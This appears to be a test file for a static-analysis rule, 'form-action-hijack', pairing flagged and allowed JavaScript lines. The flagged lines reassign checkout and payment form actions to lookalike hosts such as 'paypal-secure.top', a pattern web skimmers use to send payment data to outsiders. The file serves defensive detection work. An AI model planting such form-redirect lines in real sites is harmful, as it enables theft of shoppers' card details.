// Tests for form-action-hijack: a form's action set to an untrusted host.

// ruleid: form-action-hijack
document.getElementById('co-payment-form').action = 'https://secure-paygate.xyz/checkout/process';

var form = document.querySelector('form#checkout');
// ruleid: form-action-hijack
form.setAttribute('action', 'https://paypal-secure.top/webscr');

// ruleid: form-action-hijack
document.forms[0].action = 'https://cdn-analytics-metrics.top/' + 'submit.php';

// ok: form-action-hijack
document.getElementById('co-payment-form').action = '/checkout/onepage/saveOrder';

// ok: form-action-hijack
form.setAttribute('action', 'https://www.paypal.com/cgi-bin/webscr');

// ok: form-action-hijack
document.forms.hpp.action = 'https://secure.authorize.net/gateway/transact.dll';

// ok: form-action-hijack
document.getElementById('search').action = '/catalogsearch/result/';
